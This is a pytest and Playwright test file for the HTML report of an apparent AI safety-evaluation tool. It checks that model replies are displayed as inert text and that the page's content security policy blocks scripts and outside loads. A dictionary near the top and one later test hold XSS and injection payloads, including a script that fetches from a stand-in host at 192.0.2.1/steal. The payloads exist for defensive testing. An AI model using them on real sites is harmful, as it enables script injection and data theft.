"""What a model wrote is shown as text, whatever it is, and runs nothing; what is missing is shown as missing."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

from pytest_httpserver import HTTPServer

from jmedethic_pytest.core.records import BaselineScores, Verdict
from jmedethic_pytest.gate.outcome import load
from jmedethic_pytest.reports.wording import number
from support.browsing import expect, leave
from support.lazy import Lazy

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

page = Lazy("jmedethic_pytest.reports.page")
Visit = Callable[..., "Page"]
Make = Callable[..., Verdict]

_RTL, _ZERO, _LINE = "\u202e", "\u0000", "\u2028"
HOSTILE = {  # by what each of them tries
    "script": "<script>document.title = 'ran'; fetch('http://192.0.2.1/steal')</script>",
    "closing script": "</script><script>document.title = 'ran'</script><!--",
    "closing textarea": "</textarea></template></title><img src=x onerror=\"document.title = 'ran'\">",
    "svg": "<svg onload=\"document.title = 'ran'\"><a href=\"javascript:document.title = 'ran'\">x</a></svg>",
    "markdown image": "![x](http://192.0.2.1/pixel.png) [click](javascript:alert(1))",
    "style": "<style>body { display: none }</style><link rel=stylesheet href=http://192.0.2.1/x.css>",
    "formula": '=HYPERLINK("http://192.0.2.1","x")',
    "json": '"}],"turns":[],"x":"\\u003c/script>',
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7}",
}


def opened(tab: Page) -> Page:
    tab.wait_for_selector("dialog[open]")
    tab.locator("#fold").click()
    return tab


def test_hostile_replies_and_reasons_are_shown_as_they_are(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    verdicts = [
        made_verdict(number, 9.0, 1.5, reply=text, reason=f"reason {text}")
        for number, text in enumerate(HOSTILE.values())
    ]
    tab = opened(visit(make_page(verdicts), f"#case={verdicts[0].key}"))
    for verdict in verdicts:
        expect(tab.locator("dialog h2").first).to_have_text(verdict.key)
        text = verdict.turns[0].reply.text
        assert tab.locator("dialog .bubble.answer").all_text_contents() == [text, text]
        assert tab.locator("dialog .judges .reason").first.text_content() == f"reason {text}"
        assert tab.locator("dialog img, dialog script, dialog style, dialog svg, dialog .bubble a").count() == 0
        if verdict is not verdicts[-1]:
            tab.locator("#case-next").click()
    assert tab.title() == "INCONCLUSIVE · made:model · jmedethic"


def test_direction_marks_and_control_characters_are_made_visible(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    report = make_page([made_verdict(0, 1.0, reply=f"safe{_RTL}elbaton{_ZERO}\u001b[31m{_LINE}end")])
    text = opened(visit(report, "#case=en-made-00")).locator("dialog .bubble.answer").text_content()
    assert not re.search("[\u0000-\u0008\u001b\u202e]", text)
    assert "\N{REPLACEMENT CHARACTER}" in text
    assert text.startswith("safe")
    assert text.endswith("end")


def test_a_line_of_a_megabyte_is_shown_in_parts(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    text = "<b>あ</b>" * 130_000
    report = make_page([made_verdict(0, 1.0, reply=text), made_verdict(1, 9.0)])
    tab = opened(visit(report, "#case=en-made-00", width=390))
    answer = tab.locator("dialog .bubble.answer")
    assert answer.text_content().startswith(text[:20_000])
    assert len(answer.text_content()) < 21_000
    assert tab.evaluate("document.querySelector('dialog').scrollWidth") <= 390
    answer.get_by_role("button").click()
    assert answer.text_content() == text


def test_a_hostile_model_name_is_text_too(visit: Visit, make_page: Callable[..., Path], made_verdict: Make) -> None:
    name = "vllm:</title><script>document.title='ran'</script>\u202e"
    tab = visit(make_page([made_verdict(0, 9.0)], target={"model": name, "kind": "openai"}))
    assert "ran" not in tab.title().split("<")[0]
    assert "</title><script>" in tab.locator("dl.facts").first.inner_text()
    assert tab.locator("script").count() == 4


def test_no_text_of_a_model_stands_in_the_source_of_the_page(
    make_page: Callable[..., Path], made_verdict: Make
) -> None:
    source = make_page([made_verdict(0, 1.0, reply="</script>PLANTED", reason="PLANTED")]).read_text(encoding="utf-8")
    assert "PLANTED" not in source
    block = re.search(r'id="block-0">([^<]*)<', source)[1]
    assert "PLANTED" in zlib.decompress(base64.b64decode(block), wbits=-15).decode()
    data = re.search(r'id="data">([^<]*)</script>', source)[1]
    assert set("<>&\u2028\u2029").isdisjoint(data)
    assert json.loads(data)["run"] == "made"


def test_the_policy_allows_the_one_script_and_nothing_else(visit: Visit, demo_run: Path) -> None:
    tab = visit(demo_run / "report.html")
    policy = tab.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "unsafe-eval" not in policy
    assert "unsafe-inline" not in policy.split("style-src")[0]
    source = (demo_run / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"\son\w+\s*=\s*[\"']", re.sub(r"<script>.*?</script>", "", source, flags=re.DOTALL))
    assert not re.search(r"(?:src|href)=[\"']?(?:https?:)?//", source)


def test_what_is_smuggled_into_the_source_neither_runs_nor_loads(
    chromium: Browser, make_page: Callable[..., Path], made_verdict: Make, httpserver: HTTPServer
) -> None:
    report = make_page([made_verdict(0, 9.0)])
    smuggled = """<body><script>document.title = "ran"</script><img src="http://192.0.2.1/x.png">
        <p id="probe" onclick="document.title = 'ran'">probe</p><script src="http://192.0.2.1/x.js"></script>
        <iframe src="http://192.0.2.1/"></iframe><link rel="stylesheet" href="http://192.0.2.1/x.css">"""
    smuggled = smuggled.replace("http://192.0.2.1", httpserver.url_for("").rstrip("/"))
    source = report.read_text(encoding="utf-8")
    report.write_text(source.replace("<body>", smuggled, 1), encoding="utf-8")
    tab = chromium.new_page()
    refused: list[str] = []
    tab.on("console", lambda line: refused.append(line.text))
    tab.goto(report.as_uri())
    tab.wait_for_selector("html[data-ready]", state="attached")
    tab.locator("#probe").click()
    assert tab.title() == "INCONCLUSIVE · made:model · jmedethic"
    assert httpserver.log == []
    assert len([text for text in refused if "Content Security Policy" in text]) >= 5
    tab.close()


# ---------------------------------------------------------------- figures


def test_scores_are_rounded_as_everywhere_else(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    values = [1.05, 2.25, 2.35, 4.45, 5.5, 6.65, 7.75, 8.125, 9.95, 10.0]
    tab = visit(make_page([made_verdict(index, value, 9.0) for index, value in enumerate(values)]))
    shown = tab.locator("#list td.turn:nth-child(3) .chip").all_inner_texts()
    assert shown == [number(value, 1) for value in values]
    means = tab.locator("#list td.mean").all_inner_texts()
    assert means == [number((value + 9.0) / 2) for value in values]


def test_missing_is_shown_as_missing_and_sorts_last(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    report = make_page([made_verdict(0, None, 8.0), made_verdict(1, 9.0, 7.0), made_verdict(2, 3.0, 9.0)])
    tab = visit(report, "#sort=mean")
    assert tab.locator("#list td.mean").all_inner_texts() == ["6.00", "8.00", "-"]
    tab.locator("#sort-mean").click()
    assert tab.locator("#list td.mean").all_inner_texts() == ["8.00", "6.00", "-"]
    assert "judge_unparsable" in tab.locator("#list tr.row").last.inner_text()
    tab.locator("#list tr.row .id a").last.click()
    assert "no score" in tab.locator("dialog .summary-scores").inner_text()
    assert "unparsable" in opened(tab).locator("dialog .judges").first.inner_text()


def test_a_run_without_any_score_does_not_look_like_one_that_kept_its_floors(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    text = visit(make_page([made_verdict(0, None, None)])).locator("#verdict").inner_text()
    assert "No turn has a score" in text
    assert "2 of 2 turns have no score" in text
    assert "fell to its floor" not in text
    assert "Pass rate\n- 0 passed, 0 failed, 1 undecided" in text


def test_the_baseline_stands_beside_the_candidate(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    before = BaselineScores(name="release", turns=(9.0, 8.5), failed=False)
    red = BaselineScores(name="release", turns=(9.0, 1.0), failed=True)
    report = make_page(
        [
            made_verdict(0, 9.0, 1.5, baseline=before),
            made_verdict(1, 9.0, 1.5, baseline=red),
            made_verdict(2, 9.0, 9.0, baseline=before),
            made_verdict(3, 9.0, 9.0),
        ]
    )
    tab = visit(report, "#result=regressed")
    assert tab.locator("#list tr.row").count() == 1
    line = tab.locator("#list tr.row").inner_text()
    assert "new failure" in line
    assert "← 8.5" in line
    assert "-3.50" in line
    tab.locator("#list tr.row .id a").click()
    tab.wait_for_selector("dialog[open]")
    rows = tab.locator("dialog .summary-scores tbody tr").all_inner_texts()
    assert rows == ["Baseline\t9.0\t8.5\t8.75", "Candidate\t9.0\t1.5\t5.25"]
    leave(tab)
    tab.select_option("#filter-result", "known")
    assert "known failure" in tab.locator("#list tr.row").inner_text()


# ---------------------------------------------------------------- size


def test_above_the_budget_failures_come_first_and_the_page_says_so(
    visit: Visit, make_run: Callable[..., Path], made_verdict: Make
) -> None:
    noise = [hashlib.sha512(bytes([number])).hexdigest() for number in range(40)]
    red = [made_verdict(number, 1.0, reply=f"fell {number} {noise[number]}") for number in range(40)]
    passing = [made_verdict(number, 9.0, reply=f"kept {number}") for number in range(40, 99)]
    path = make_run([*passing, *red])
    found = page.render(load(path), {}, budget=6_000)
    assert found.embedded < found.conversations == 99
    (path / page.NAME).write_text(found.html, encoding="utf-8")
    tab = visit(path / page.NAME, "#case=en-made-00")
    assert "fell 0" in opened(tab).locator("dialog .bubble.answer").text_content()
    leave(tab)
    assert f"the texts of {found.embedded} of 99" in tab.locator("#cases").inner_text()
    tab.evaluate("location.hash = '#case=en-made-98'")
    tab.wait_for_selector("dialog[open] pre")
    assert tab.locator("dialog pre").inner_text() == "jmedethic show made en-made-98"
    assert "9.0" in tab.locator("dialog .summary-scores").inner_text()


def test_a_text_larger_than_the_page_may_hold_does_not_push_out_the_others(
    make_run: Callable[..., Path], made_verdict: Make
) -> None:
    noise = base64.b85encode(bytes((index * 7919) % 251 for index in range(400_000))).decode()
    path = make_run([made_verdict(0, 1.0, reply=noise + noise), made_verdict(1, 1.0), made_verdict(2, 1.0)])
    found = page.render(load(path), {}, budget=3_000)
    assert (found.embedded, found.conversations) == (2, 3)


# ---------------------------------------------------------------- kinds of conversations


def test_twins_repetitions_and_attempts_are_told_apart(
    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
) -> None:
    refused = made_verdict(1, 9.0, 9.0, case={"twin_of": "made-00", "id": "en-made-00-twin"})
    marked = tuple(score.model_copy(update={"over_refusal": True}) for score in refused.turns[-1].scores)
    last = refused.turns[-1].model_copy(update={"scores": marked})
    twin = refused.model_copy(update={"turns": (*refused.turns[:-1], last)})
    again = made_verdict(3, 9.0, 9.0, reply="another attempt")
    shaky = made_verdict(3, 9.0, 1.5, attempts=(again, again), confirmed=False)
    tab = visit(make_page([made_verdict(0, 9.0, 1.0), twin, made_verdict(2, 9.0, 9.0, repeat=1), shaky]))
    lines = dict(
        zip(tab.locator("#list .id").all_inner_texts(), tab.locator("#list .result").all_inner_texts(), strict=True)
    )
    assert lines == {
        "en-made-00": "failed",
        "en-made-00-twin": "passed refused without need",
        "en-made-02~1": "passed",
        "en-made-03": "fell, not confirmed",
    }
    assert tab.locator("table.fell tbody").inner_text().split("\n")[0].split("\t")[1:] == ["0", "1", "1"]
    tab.select_option("#filter-kind", "refused")
    assert tab.locator("#list .id").all_inner_texts() == ["en-made-00-twin"]
    tab.evaluate("location.hash = '#case=en-made-03'")
    attempts = opened(tab).locator("dialog .attempts").inner_text()
    assert attempts.count("another attempt") == 4
    assert "Attempt 3" in attempts


def test_what_a_run_did_not_reach_is_listed_without_a_score(
    visit: Visit, make_run: Callable[..., Path], made_verdict: Make
) -> None:
    path = make_run([made_verdict(0, 9.0, 9.0)], status="incomplete", selected=2, note="interrupted")
    empty = made_verdict(1, 9.0, 9.0).model_copy(update={"turns": (), "status": "skipped_budget", "violations": ()})
    (path / "unevaluated.jsonl").write_text(empty.model_dump_json() + "\n", encoding="utf-8")
    tab = visit(page.write(load(path), path), "#result=unscored")
    assert tab.locator("h1").inner_text().lower() == "safety gate: inconclusive"
    assert "interrupted" in tab.locator("#verdict").inner_text()
    line = tab.locator("#list tr.row").inner_text()
    assert "en-made-01" in line
    assert "not_evaluated" in line
    tab.locator("#list .id a").click()
    assert "did not reach this conversation" in tab.locator("dialog[open]").inner_text()
